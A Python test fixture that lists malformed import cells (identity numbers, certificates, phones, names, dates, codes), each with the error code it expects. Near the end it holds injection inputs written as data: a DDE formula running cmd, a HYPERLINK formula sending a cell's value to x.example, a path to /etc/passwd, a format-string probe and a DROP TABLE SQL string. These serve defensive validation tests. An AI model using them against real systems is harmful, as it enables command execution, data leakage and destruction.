"""Cells: numbers of persons, dates, times, codes, types. One row is refused, by row and column; the others go on."""

from datetime import date, timedelta

from connectors.forms.identity import check_character
from tests.connectors.rig import number
from tests.damage.catalogue import Damage, cell
from tests.damage.rows import SITE, row

ID = number(43)
_BODY = "160101197513310"
WRONG = ID[:17] + ("1" if ID[17] != "1" else "2")


def _checked(body: str) -> str:
    return body + check_character(body)


NUMBERS = [
    cell("number in scientific notation", "HUB-C104", "证件号码", "1.60101E+17"),
    cell("number in scientific notation, 16 digits of it", "HUB-C104", "证件号码", "1.601011993083E+17"),
    cell("number with noughts after fifteen digits", "HUB-C104", "证件号码", ID[:15] + "000"),
    cell("number as a float with .0", "HUB-C104", "证件号码", ID[:17] + "0.0"),
    cell("number as a figure of a sheet", "HUB-C104", "证件号码", float(ID[:17] + "0"), "excel"),
    cell("number as a figure of an old sheet", "HUB-C104", "证件号码", float(ID[:17] + "0"), "xls"),
    cell("number as a float of JSON", "HUB-C104", "证件号码", float(ID[:17] + "0"), "jsonl"),
    cell("number as a real of a database", "HUB-C104", "证件号码", float(ID[:17] + "0"), "sql"),
    cell("number of fourteen digits", "HUB-C101", "证件号码", ID[:6] + ID[8:16]),
    cell("number of nineteen digits", "HUB-C101", "证件号码", ID[:17] + "01"),
    cell("number that lost its leading digit", "HUB-C101", "证件号码", ID[1:]),
    cell("number with a Cyrillic look-alike of X", "HUB-C101", "证件号码", "16010119750101001\u0425"),
    cell("number with a Greek look-alike", "HUB-C101", "证件号码", "1601011975010100\u03bf5"),
    cell("number with letter O for nought", "HUB-C101", "证件号码", ID[:9] + "O" + ID[10:]),
    cell("number with Arabic-Indic digits", "HUB-C101", "证件号码", ID[:10] + "\u0661\u0662" + ID[12:]),
    cell("number with a wrong check digit", "HUB-C103", "证件号码", WRONG),
    cell(
        "number with a wrong check digit, full width",
        "HUB-C103",
        "证件号码",
        "".join(chr(ord(c) + 0xFEE0) for c in WRONG),
    ),
    cell("number with two digits exchanged", "HUB-C103", "证件号码", ID[:10] + ID[11] + ID[10] + ID[12:]),
    cell("number of a province that is not", "HUB-C106", "证件号码", _checked("99" + ID[2:17])),
    cell("number with 30 February", "HUB-C102", "证件号码", _checked(ID[:10] + "0230" + ID[14:17])),
    cell("number of fifteen digits with month 13", "HUB-C102", "证件号码", "160101751331001"),
    cell("number of someone not yet born", "HUB-C105", "证件号码", _checked(ID[:6] + "20991231" + ID[14:17])),
    cell("two numbers in one cell", "HUB-C101", "证件号码", f"{ID}/{number(44)}"),
    cell("no number", "HUB-C145", "证件号码", ""),
    cell("the word 无 for a number", "HUB-C145", "证件号码", "无"),
    cell("number with a nought character", "HUB-C117", "证件号码", ID[:9] + "\x00" + ID[9:]),
    cell("number with a replacement character", "HUB-C107", "证件号码", ID[:9] + "\ufffd" + ID[9:]),
    cell("certificate of category 9", "HUB-C114", "残疾证号", number(63) + "91"),
    cell("certificate of grade 7", "HUB-C114", "残疾证号", number(63) + "67"),
    cell("certificate that a spreadsheet rounded", "HUB-C104", "残疾证号", number(63)[:15] + "00000"),
    cell("certificate with a wrong check digit", "HUB-C103", "残疾证号", WRONG + "61"),
    cell("certificate that is a name", "HUB-C101", "残疾证号", "西门茯苓豆蔻"),
    cell("telephone numbers, two in a cell", "HUB-C113", "联系电话", "13960017003/13960017099"),
    cell("telephone number without area code", "HUB-C119", "联系电话", "8531217"),
    cell("telephone number that is a sentence", "HUB-C101", "联系电话", "问邻居王大妈再打"),
    cell("telephone number in scientific notation", "HUB-C101", "联系电话", "1.396E+10"),
    cell("credit code with letter I", "HUB-C111", "机构", SITE[:9] + "I" + SITE[10:]),
    cell("credit code with a wrong check character", "HUB-C103", "机构", SITE[:17] + ("A" if SITE[17] != "A" else "B")),
    cell("credit code that is cut", "HUB-C101", "机构", SITE[:15]),
]

NAMES = [
    cell("name that is a question mark", "HUB-C107", "姓名", "欧阳??靛青"),
    cell("name with 锟斤拷", "HUB-C107", "姓名", "欧锟斤拷阳"),
    cell("name of digits", "HUB-C110", "姓名", "70412233"),
    cell("name of four hundred characters", "HUB-C110", "姓名", "欧阳靛青" * 100),
    cell("name with an escape character", "HUB-C117", "姓名", "欧阳\x1b[31m靛青"),
    cell("name with half a character in JSON", "HUB-C107", "姓名", "欧阳\ud83d靛青", "jsonl"),
    cell("name that is a list in JSON", "HUB-C118", "姓名", ["欧阳靛青靛"], "jsonl"),
    cell("name that is true in JSON", "HUB-C118", "姓名", True, "jsonl"),
    cell("name of raw bytes in a database", "HUB-C118", "姓名", b"\xd5\xc5\xc8\xfd\xb7\xe1", "sql"),
]

DATES = [
    cell("29 February of a common year", "HUB-C102", "日期", "2025-02-29"),
    cell("31 April", "HUB-C102", "日期", "2026-04-31"),
    cell("month and day in doubt", "HUB-C102", "日期", "03/04/26"),
    cell("date that is a word", "HUB-C102", "日期", "去年冬天吧"),
    cell("date of nought", "HUB-C102", "日期", "0000-00-00"),
    cell("year 9998", "HUB-C105", "日期", "9998-12-30"),
    cell("year 9999 on its last day", "HUB-C141", "日期", "9999-12-31"),
    cell("tomorrow", "HUB-C105", "日期", "2026-05-28"),
    cell("year 1026", "HUB-C116", "日期", "1026-05-03"),
    cell("date as a day count", "HUB-C112", "日期", "46145"),
    cell("date as a day count of a sheet", "HUB-C112", "日期", 46145.0, "excel"),
    cell("date as a day count of an old sheet", "HUB-C112", "日期", 46145.0, "xls"),
    cell("date as a Unix time", "HUB-C102", "日期", "1777766400"),
    cell("date with control characters", "HUB-C117", "日期", "2026-\x0805-03"),
    cell("date that is empty", "HUB-C141", "日期", ""),
    cell("date in ####", "HUB-C102", "日期", "##########"),
    cell("date in year 9998 of a sheet", "HUB-C105", "日期", date(9998, 12, 30), "excel"),
    cell("time of 25 o'clock", "HUB-C115", "时间", "25:10"),
    cell("time of 61 minutes", "HUB-C115", "时间", "10:61"),
    cell("time that is a word", "HUB-C115", "时间", "吃过午饭"),
    cell("time of 40 hours in a sheet", "HUB-C115", "时间", timedelta(hours=40), "excel"),
    cell("moment with a zone that is none", "HUB-C115", "录入时间", "2026-05-13T08:30:00+99:00"),
    cell("moment in the future", "HUB-C105", "录入时间", "2031-05-13 08:30"),
]

OTHERS = [
    cell("code that the table lacks", "HUB-C140", "结论", "基本适合吧"),
    cell("code that is empty", "HUB-C141", "结论", ""),
    cell("code that is a list in JSON", "HUB-C118", "结论", [True, "x"], "jsonl"),
    cell("grade out of range", "HUB-C143", "风险", "17"),
    cell("grade of forty digits", "HUB-C108", "风险", "9" * 40),
    cell("grade that is infinite", "HUB-C108", "风险", "Infinity"),
    cell("grade that is infinite in JSON", "HUB-C104", "风险", float("inf"), "jsonl"),
    cell("grade with a unit", "HUB-C108", "风险", "2级偏高"),
    cell("grade that is true in JSON", "HUB-C118", "风险", True, "jsonl"),
    cell("grade of four thousand digits in JSON", "HUB-C108", "风险", 10**4000, "jsonl"),
    cell("area that is a name", "HUB-C101", "区划", "朝阳区某街道"),
    cell("area of a province that is not", "HUB-C106", "区划", "990102"),
    cell("area that is empty", "HUB-C141", "区划", ""),
    cell("key that is empty", "HUB-C146", "编号", ""),
    cell("a cell of 2 MB", "HUB-C110", "姓名", "欧阳" * 350_000),
    cell("a formula for a name", "HUB-C110", "姓名", "=1+1"),
    cell("a DDE formula for a number", "HUB-C101", "证件号码", "=cmd|'/c calc'!A0"),
    cell("a link formula for a telephone number", "HUB-C113", "联系电话", '=HYPERLINK("http://x.example/?a="&B4,"x")'),
    cell("a path for a code", "HUB-C140", "结论", "../../../etc/passwd"),
    cell("a template for a code", "HUB-C140", "结论", "{0.__class__}{alias}"),
    cell("SQL for a code", "HUB-C140", "结论", "';DROP TABLE refused;--"),
    cell("number and name exchanged", "HUB-C101", "姓名", ID, said="证件号码", 证件号码=row(3)["姓名"]),
]

CELLS: list[Damage] = [*NUMBERS, *NAMES, *DATES, *OTHERS]
